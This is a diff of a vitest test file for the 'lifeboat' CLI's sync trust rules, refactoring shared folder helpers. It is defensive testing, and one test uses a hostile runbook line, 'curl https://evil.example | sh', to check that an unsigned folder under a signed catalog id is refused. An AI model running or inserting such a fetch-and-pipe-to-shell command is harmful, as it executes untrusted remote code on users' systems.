@@ -4,12 +4,13 @@
  * the engine's side). Every refusal changes nothing: the records are counted
  * before and after.
  */
-import { mkdir, mkdtemp, writeFile } from 'node:fs/promises';
+import { mkdtemp } from 'node:fs/promises';
 import { tmpdir } from 'node:os';
 import { join } from 'node:path';
 import { describe, expect, it } from 'vitest';
 import { PASSPHRASES, newVault } from '../../test/support/test-vault.js';
 import { runCli } from './run-cli.js';
+import { FOUR_RUNBOOKS, writeCatalogFolder } from '../../test/support/catalog-folder.js';
 
 const env = { LIFEBOAT_PASSPHRASE: PASSPHRASES['alice'] ?? '' };
 
@@ -18,23 +19,6 @@ async function run(args: string[]): Promise<{ code: number; out: string; err: st
   const err: string[] = [];
   const code = await runCli(args, { out: (t: string) => out.push(t), err: (t: string) => err.push(t) }, { version: '1', env });
   return { code, out: out.join(''), err: err.join('') };
-}
-
-const page = (title: string): string => `# ${title}\n\n1. Do the thing\n`;
-const FOUR = {
-  'db/restore.md': page('Restore the database'),
-  'db/check.md': page('Check replication'),
-  'dns/failover.md': page('Fail over DNS'),
-  'net/vpn.md': page('Restart the VPN'),
-};
-
-async function folder(parent: string, name: string, files: Record<string, string>): Promise<string> {
-  const dir = join(parent, name);
-  for (const [path, text] of Object.entries(files)) {
-    await mkdir(join(dir, path, '..'), { recursive: true });
-    await writeFile(join(dir, path), text);
-  }
-  return dir;
 }
 
 /** A vault trusting a fresh publisher key; `pack` makes a signed catalog of a folder. */
@@ -50,7 +34,7 @@ async function setup() {
   let n = 0;
   const pack = async (id: string, version: number, files: Record<string, string>): Promise<string> => {
     n += 1;
-    const src = await folder(work, `src-${n}`, files);
+    const src = await writeCatalogFolder(work, `src-${n}`, files);
     const out = join(work, `${id}-${version}.lbcat`);
     const packed = await run(['catalog', 'pack', src, '--key', key, '--version', String(version), '--id', id, '--out', out]);
     expect(packed.code, packed.err).toBe(0);
@@ -63,12 +47,12 @@ async function setup() {
 describe('lifeboat sync: the trust and safety rules (issue 17)', () => {
   it('a generic folder name is no catalog id: sync --unsigned and catalog pack exit 2 without --id, before any passphrase', async () => {
     const { work, dir, count } = await setup();
-    const docs = await folder(work, 'docs', FOUR);
+    const docs = await writeCatalogFolder(work, 'docs', FOUR_RUNBOOKS);
     const refused = await run(['sync', dir, '--as', 'alice', '--unsigned', docs, '--dry-run']);
     expect(refused.code).toBe(2);
     expect(refused.err).toContain('"docs" is too generic to be a catalog id');
     expect(refused.err).toContain('--id');
-    const json = await run(['sync', dir, '--as', 'alice', '--unsigned', await folder(work, 'Runbooks', FOUR), '--json']);
+    const json = await run(['sync', dir, '--as', 'alice', '--unsigned', await writeCatalogFolder(work, 'Runbooks', FOUR_RUNBOOKS), '--json']);
     expect(JSON.parse(json.out)).toMatchObject({ error: { code: 'CATALOG_ID_REQUIRED' } });
     expect(json.code).toBe(2);
     const pack = await run(['catalog', 'pack', docs, '--key', join(work, 'publisher.key'), '--version', '1', '--out', join(work, 'x.lbcat')]);
@@ -84,9 +68,9 @@ describe('lifeboat sync: the trust and safety rules (issue 17)', () => {
 
   it('attack: an unsigned folder under a signed catalog’s id is exit 4, as a sync, a dry run and a downgrade, with nothing changed', async () => {
     const { work, dir, pack, count } = await setup();
-    expect((await run(['sync', dir, '--as', 'alice', await pack('ops', 1, FOUR)])).code).toBe(0);
-    expect((await run(['sync', dir, '--as', 'alice', await pack('ops', 2, FOUR)])).code).toBe(0);
-    const evil = await folder(work, 'evil', { 'db/restore.md': '# Restore the database\n\n1. curl https://evil.example | sh\n' });
+    expect((await run(['sync', dir, '--as', 'alice', await pack('ops', 1, FOUR_RUNBOOKS)])).code).toBe(0);
+    expect((await run(['sync', dir, '--as', 'alice', await pack('ops', 2, FOUR_RUNBOOKS)])).code).toBe(0);
+    const evil = await writeCatalogFolder(work, 'evil', { 'db/restore.md': '# Restore the database\n\n1. curl https://evil.example | sh\n' });
     for (const extra of [[], ['--dry-run'], ['--allow-downgrade'], ['--yes', '--conflicts', 'take-catalog']]) {
       const refused = await run(['sync', dir, '--as', 'alice', '--unsigned', evil, '--id', 'ops', ...extra]);
       expect(refused.code, extra.join(' ')).toBe(4);
@@ -98,8 +82,8 @@ describe('lifeboat sync: the trust and safety rules (issue 17)', () => {
 
   it('more than a quarter archived: the dry run warns, applying is exit 2 without --yes and exit 0 with it', async () => {
     const { dir, pack, count } = await setup();
-    expect((await run(['sync', dir, '--as', 'alice', await pack('ops', 1, FOUR)])).code).toBe(0);
-    const half = await pack('ops', 2, { 'db/restore.md': FOUR['db/restore.md'] });
+    expect((await run(['sync', dir, '--as', 'alice', await pack('ops', 1, FOUR_RUNBOOKS)])).code).toBe(0);
+    const half = await pack('ops', 2, { 'db/restore.md': FOUR_RUNBOOKS['db/restore.md'] });
     const dry = await run(['sync', dir, '--as', 'alice', half, '--dry-run']);
     expect(dry.code).toBe(0);
     expect(dry.out).toContain(
@@ -116,8 +100,8 @@ describe('lifeboat sync: the trust and safety rules (issue 17)', () => {
 
   it('adoption: the dry run says how many entries duplicate an unsigned import and how to adopt; --adopt takes them over', async () => {
     const { work, dir, pack, count } = await setup();
-    expect((await run(['sync', dir, '--as', 'alice', '--unsigned', await folder(work, 'gitlab', FOUR)])).code).toBe(0);
-    const signed = await pack('gitlab-signed', 1, FOUR);
+    expect((await run(['sync', dir, '--as', 'alice', '--unsigned', await writeCatalogFolder(work, 'gitlab', FOUR_RUNBOOKS)])).code).toBe(0);
+    const signed = await pack('gitlab-signed', 1, FOUR_RUNBOOKS);
     const dry = await run(['sync', dir, '--as', 'alice', signed, '--dry-run']);
     expect(dry.out).toContain(
       "4 entries duplicate records of the unsigned import gitlab (same paths): they are counted as added, as copies. To make those records gitlab-signed's instead, an owner can adopt them: add --adopt.",
